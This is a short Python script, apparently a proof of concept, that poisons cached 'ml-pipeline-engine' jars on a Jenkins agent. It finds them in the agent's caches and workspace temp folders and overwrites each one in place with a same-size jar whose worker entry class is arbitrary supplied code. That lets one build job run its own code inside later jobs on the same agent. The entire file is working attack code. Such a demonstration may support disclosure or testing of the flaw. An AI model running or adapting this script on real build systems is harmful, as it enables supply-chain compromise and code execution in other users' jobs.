#!/usr/bin/env python3
"""What a job can do to the next one of its agent: the worker's engine becomes a jar of the same size with other code.

usage: plant.py AGENT_FOLDER CLASS_FILE
Writes into the jars that are there, so that a hard link to one changes too. Prints how many.
"""
import pathlib
import sys
import zipfile

NAME = "io/jenkins/plugins/mlpipeline/engine/worker/WorkerMain.class"


def jar(size, code):
    """A jar of that size with that code as the worker's entry point."""
    fill = size
    while True:
        path = pathlib.Path("planted.jar")
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(NAME, code)
            archive.writestr("fill", bytes(fill))
        if path.stat().st_size == size:
            return path.read_bytes()
        fill -= path.stat().st_size - size


def main():
    folder, code = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]).read_bytes()
    jars = list(folder.glob("caches/ml-pipeline/*/ml-pipeline-engine.jar"))
    jars += folder.glob("workspace/*@tmp/ml-pipeline-lib/*/ml-pipeline-engine.jar")
    for target in jars:
        other = jar(target.stat().st_size, code)
        target.chmod(0o644)
        with target.open("r+b") as file:
            file.write(other)
    print(f"planted in {len(jars)} jars")


if __name__ == "__main__":
    main()
